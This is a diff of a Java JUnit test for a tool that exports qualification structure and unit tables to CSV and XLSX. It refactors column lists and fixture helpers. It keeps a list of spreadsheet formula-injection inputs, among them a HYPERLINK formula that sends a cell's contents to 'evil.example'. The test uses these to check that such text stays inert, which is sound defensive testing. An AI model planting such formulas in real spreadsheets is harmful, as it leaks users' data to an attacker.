@@ -11,6 +11,8 @@ import java.io.IOException;
 import java.io.StringReader;
 import java.io.StringWriter;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
@@ -32,6 +34,9 @@ import org.junit.jupiter.api.Test;
 import io.qualspec.catalogue.Catalogue;
 import io.qualspec.catalogue.ResolvedQualification;
 import io.qualspec.generators.tables.StructureTables;
+import io.qualspec.testing.Examples;
+import io.qualspec.testing.HandbookTables;
+import io.qualspec.testing.Repository;
 
 /**
  * Structure tables as CSV and XLSX, read back with Commons CSV and POI: the SFJ structure, the whole
@@ -68,6 +73,14 @@ class StructureTablesTest {
 			}
 			""";
 
+	/** The columns of the structure table, as its documentation (StructureTables) lists them. */
+	private static final List<String> STRUCTURE_COLUMNS = List.of("QN", "Group", "Group label", "Group kind", "Unit no",
+			"Sector code", "AO reference", "URN", "Title", "Credits", "Level", "GLH", "Assessment");
+
+	/** The columns of the unit list. */
+	private static final List<String> UNIT_COLUMNS = List.of("URN", "Title", "Level", "Credits", "GLH", "Assessment",
+			"Grade scale", "Learning outcomes", "Assessment criteria", "Library", "Qualifications");
+
 	private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "+1",
 			"-2", "@SUM(A1)", "\tTabbed", "\rReturn");
 
@@ -75,7 +88,7 @@ class StructureTablesTest {
 
 	@Test
 	void theSfjStructureAsCsv() throws IOException {
-		ResolvedQualification sfj = ExportFixtures.qualification(ExportFixtures.SFJ);
+		ResolvedQualification sfj = Examples.qualification(ExportFixtures.SFJ);
 		StringWriter out = new StringWriter();
 		StructureTables.writeCsv(sfj, out);
 		String csv = out.toString();
@@ -88,16 +101,16 @@ class StructureTablesTest {
 				"Deliver customer service", "5", "2", "27", "Internal"), first.toList());
 		assertEquals(14, records.stream().filter(r -> r.get("Group").equals("A")).mapToInt(r -> Integer.parseInt(r.get("Credits"))).sum());
 		assertEquals(List.of("A", "B"), records.stream().map(r -> r.get("Group")).distinct().toList());
-		assertEquals(StructureTables.STRUCTURE_COLUMNS, header(csv));
+		assertEquals(STRUCTURE_COLUMNS, header(csv));
 	}
 
 	@Test
 	void theCatalogueAsCsv() throws IOException {
-		Catalogue catalogue = ExportFixtures.examples();
+		Catalogue catalogue = Examples.catalogue();
 		StringWriter structure = new StringWriter();
 		StructureTables.writeCsv(catalogue, structure);
 		List<CSVRecord> rows = parse(structure.toString());
-		assertEquals(catalogue.qualifications().stream().mapToInt(q -> q.memberships().size()).sum(), rows.size());
+		assertEquals(handbookRows(), rows.size());
 		assertEquals(11, rows.stream().map(r -> r.get("QN")).distinct().count());
 		// a Cambridge Technical unit: no group, no credits, no level
 		CSVRecord ct = rows.stream().filter(r -> r.get("URN").equals("R/615/5441")).findFirst().orElseThrow();
@@ -109,8 +122,8 @@ class StructureTablesTest {
 		StringWriter units = new StringWriter();
 		StructureTables.writeUnitsCsv(catalogue, units);
 		List<CSVRecord> unitRows = parse(units.toString());
-		assertEquals(catalogue.units().size(), unitRows.size());
-		assertEquals(StructureTables.UNIT_COLUMNS, header(units.toString()));
+		assertEquals(writtenUnits(), unitRows.size());
+		assertEquals(UNIT_COLUMNS, header(units.toString()));
 		CSVRecord deliver = unitRows.stream()
 				.filter(r -> r.get("URN").equals("A/506/2130") && r.get("Library").equals("cfa.customerservice")).findFirst()
 				.orElseThrow();
@@ -155,16 +168,16 @@ class StructureTablesTest {
 
 	@Test
 	void theSfjWorkbookRoundTrips() throws IOException {
-		ResolvedQualification sfj = ExportFixtures.qualification(ExportFixtures.SFJ);
+		ResolvedQualification sfj = Examples.qualification(ExportFixtures.SFJ);
 		try (XSSFWorkbook workbook = xlsx(sfj)) {
 			assertEquals(2, workbook.getNumberOfSheets());
-			Sheet structure = workbook.getSheet(StructureTables.STRUCTURE_SHEET);
-			Sheet units = workbook.getSheet(StructureTables.UNITS_SHEET);
+			Sheet structure = workbook.getSheet("Structure");
+			Sheet units = workbook.getSheet("Units");
 			assertNotNull(structure);
 			assertNotNull(units);
 
 			Row header = structure.getRow(0);
-			assertEquals(StructureTables.STRUCTURE_COLUMNS, strings(header));
+			assertEquals(STRUCTURE_COLUMNS, strings(header));
 			assertTrue(workbook.getFontAt(header.getCell(0).getCellStyle().getFontIndex()).getBold(), "bold header");
 			// the header row is frozen (read from the sheet's XML: the API's PaneInformation is in a package this
 			// bundle does not import)
@@ -174,43 +187,42 @@ class StructureTablesTest {
 			assertTrue(pane.group().contains("ySplit=\"1.0\"") && pane.group().contains("state=\"frozen\"")
 					&& pane.group().contains("topLeftCell=\"A2\"") && !pane.group().contains("xSplit=\"1"), pane.group());
 			assertTrue(sheetXml.contains("<autoFilter ref=\"A1:M24\"/>"), "a filter on the header");
-			int titleColumn = StructureTables.STRUCTURE_COLUMNS.indexOf("Title");
+			int titleColumn = STRUCTURE_COLUMNS.indexOf("Title");
 			assertTrue(structure.getColumnWidth(titleColumn) > structure.getColumnWidth(0), "widths follow the content");
 
 			assertEquals(23, structure.getLastRowNum());
 			Row first = structure.getRow(1);
-			assertEquals("A/506/2130", first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("URN")).getStringCellValue());
+			assertEquals("A/506/2130", first.getCell(STRUCTURE_COLUMNS.indexOf("URN")).getStringCellValue());
 			assertEquals("Deliver customer service", first.getCell(titleColumn).getStringCellValue());
 			for (String numeric : List.of("Credits", "Level", "GLH")) {
-				Cell cell = first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf(numeric));
+				Cell cell = first.getCell(STRUCTURE_COLUMNS.indexOf(numeric));
 				assertEquals(CellType.NUMERIC, cell.getCellType(), numeric);
 			}
-			assertEquals(5, first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("Credits")).getNumericCellValue());
-			assertEquals(CellType.STRING, first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("AO reference")).getCellType(),
+			assertEquals(5, first.getCell(STRUCTURE_COLUMNS.indexOf("Credits")).getNumericCellValue());
+			assertEquals(CellType.STRING, first.getCell(STRUCTURE_COLUMNS.indexOf("AO reference")).getCellType(),
 					"a reference of digits stays text");
 			// the same rows as the CSV
 			StringWriter csv = new StringWriter();
 			StructureTables.writeCsv(sfj, csv);
 			List<CSVRecord> records = parse(csv.toString());
 			for (int r = 0; r < records.size(); r++) {
-				assertEquals(records.get(r).toList(), cellTexts(structure.getRow(r + 1), StructureTables.STRUCTURE_COLUMNS.size()));
+				assertEquals(records.get(r).toList(), cellTexts(structure.getRow(r + 1), STRUCTURE_COLUMNS.size()));
 			}
 
-			assertEquals(StructureTables.UNIT_COLUMNS, strings(units.getRow(0)));
+			assertEquals(UNIT_COLUMNS, strings(units.getRow(0)));
 			assertEquals(23, units.getLastRowNum());
-			assertEquals(20, units.getRow(1).getCell(StructureTables.UNIT_COLUMNS.indexOf("Assessment criteria")).getNumericCellValue());
+			assertEquals(20, units.getRow(1).getCell(UNIT_COLUMNS.indexOf("Assessment criteria")).getNumericCellValue());
 		}
 	}
 
 	@Test
 	void theCatalogueWorkbook() throws IOException {
-		Catalogue catalogue = ExportFixtures.examples();
+		Catalogue catalogue = Examples.catalogue();
 		ByteArrayOutputStream out = new ByteArrayOutputStream();
 		StructureTables.writeXlsx(catalogue, out);
 		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
-			assertEquals(catalogue.qualifications().stream().mapToInt(q -> q.memberships().size()).sum(),
-					workbook.getSheet(StructureTables.STRUCTURE_SHEET).getLastRowNum());
-			assertEquals(catalogue.units().size(), workbook.getSheet(StructureTables.UNITS_SHEET).getLastRowNum());
+			assertEquals(handbookRows(), workbook.getSheet("Structure").getLastRowNum());
+			assertEquals(writtenUnits(), workbook.getSheet("Units").getLastRowNum());
 			assertNoFormulas(workbook);
 		}
 	}
@@ -219,8 +231,8 @@ class StructureTablesTest {
 	void textThatWouldStartAFormulaStaysTextInXlsx() throws IOException {
 		try (XSSFWorkbook workbook = xlsx(hostile())) {
 			assertNoFormulas(workbook);
-			Sheet structure = workbook.getSheet(StructureTables.STRUCTURE_SHEET);
-			int title = StructureTables.STRUCTURE_COLUMNS.indexOf("Title");
+			Sheet structure = workbook.getSheet("Structure");
+			int title = STRUCTURE_COLUMNS.indexOf("Title");
 			for (int i = 0; i < HOSTILE.size(); i++) {
 				Cell cell = structure.getRow(i + 1).getCell(title);
 				assertEquals(CellType.STRING, cell.getCellType());
@@ -233,24 +245,39 @@ class StructureTablesTest {
 			Row first = structure.getRow(1);
 			for (Map.Entry<String, String> expected : Map.of("Group label", "-Mandatory", "AO reference", "=2+3",
 					"Sector code", "@A1").entrySet()) {
-				Cell cell = first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf(expected.getKey()));
+				Cell cell = first.getCell(STRUCTURE_COLUMNS.indexOf(expected.getKey()));
 				assertEquals(CellType.STRING, cell.getCellType());
 				assertEquals(expected.getValue(), cell.getStringCellValue());
 				assertTrue(cell.getCellStyle().getQuotePrefixed());
 			}
-			Cell credits = first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("Credits"));
+			Cell credits = first.getCell(STRUCTURE_COLUMNS.indexOf("Credits"));
 			assertEquals(CellType.NUMERIC, credits.getCellType());
 			assertEquals(5, credits.getNumericCellValue());
-			assertEquals("Entry", structure.getRow(5).getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("Level")).getStringCellValue());
+			assertEquals("Entry", structure.getRow(5).getCell(STRUCTURE_COLUMNS.indexOf("Level")).getStringCellValue());
 
-			Cell unitTitle = workbook.getSheet(StructureTables.UNITS_SHEET).getRow(1)
-					.getCell(StructureTables.UNIT_COLUMNS.indexOf("Title"));
+			Cell unitTitle = workbook.getSheet("Units").getRow(1)
+					.getCell(UNIT_COLUMNS.indexOf("Title"));
 			assertEquals(CellType.STRING, unitTitle.getCellType());
 			assertEquals(HOSTILE.get(0), unitTitle.getStringCellValue());
 		}
 	}
 
 	// ------------------------------------------------------------------------------------------ helpers
+
+	/** One structure row for each row of the handbooks' unit tables. */
+	private static int handbookRows() {
+		return HandbookTables.all().stream().mapToInt(table -> table.rows().size()).sum();
+	}
+
+	/** One unit row for each unit the examples' libraries describe (a line "unit L/ddd/dddd "title""). */
+	private static long writtenUnits() throws IOException {
+		Pattern description = Pattern.compile("^\\s*unit [A-Z]/\\d{3}/\\d{4} \"", Pattern.MULTILINE);
+		long units = 0;
+		for (Path file : Repository.exampleFiles()) {
+			units += description.matcher(Files.readString(file)).results().count();
+		}
+		return units;
+	}
 
 	private static ResolvedQualification hostile() {
 		Catalogue catalogue = ExportFixtures.loadText(INJECTION);
@@ -317,7 +344,7 @@ class StructureTablesTest {
 		return values;
 	}
 
-	/** A row as the CSV writes it: numbers as integers, text with the CSV's apostrophe, blanks empty. */
+	/** A row's cells as text: numbers as integers, blanks empty (the SFJ texts start no formula, so CSV writes them as they are). */
 	private static List<String> cellTexts(Row row, int columns) {
 		List<String> values = new ArrayList<>();
 		for (int c = 0; c < columns; c++) {
@@ -327,7 +354,7 @@ class StructureTablesTest {
 			} else if (cell.getCellType() == CellType.NUMERIC) {
 				values.add(String.valueOf((long) cell.getNumericCellValue()));
 			} else {
-				values.add(StructureTables.csvText(cell.getStringCellValue()));
+				values.add(cell.getStringCellValue());
 			}
 		}
 		return values;
